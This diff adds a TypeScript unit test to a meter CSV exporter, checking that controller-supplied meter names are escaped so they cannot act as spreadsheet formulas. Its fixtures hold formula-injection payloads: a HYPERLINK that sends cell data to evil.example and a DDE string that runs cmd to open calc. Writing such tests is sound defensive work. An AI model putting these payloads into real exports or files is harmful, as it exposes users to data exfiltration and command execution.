@@ -88,3 +88,27 @@ describe('meter CSV', () => {
     );
   });
 });
+
+describe('the meters export', () => {
+  it('meters: a name the controller sent is never a formula, and negative readings stay numbers', () => {
+    const series = new MeterSeries();
+    const meter = (key: string, name: string, value: number): MeterReading => ({
+      key,
+      name,
+      quantity: 'other',
+      bus: null,
+      value,
+      unit: '',
+    });
+    series.add(Date.UTC(2024, 4, 1, 10, 0, 0), [
+      meter('a', '=HYPERLINK("http://evil.example/?"&A2,"click")', -3.2),
+      meter('b', "@SUM(1+9)*cmd|' /C calc'!A0", 5),
+      meter('c', '-2+3', -0.5),
+    ]);
+    const [header, row] = meterCsv(series).split('\r\n');
+    expect(header).toBe(
+      `time,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'@SUM(1+9)*cmd|' /C calc'!A0,'-2+3`,
+    );
+    expect(row).toBe('2024-05-01T10:00:00.000Z,-3.2,5,-0.5');
+  });
+});
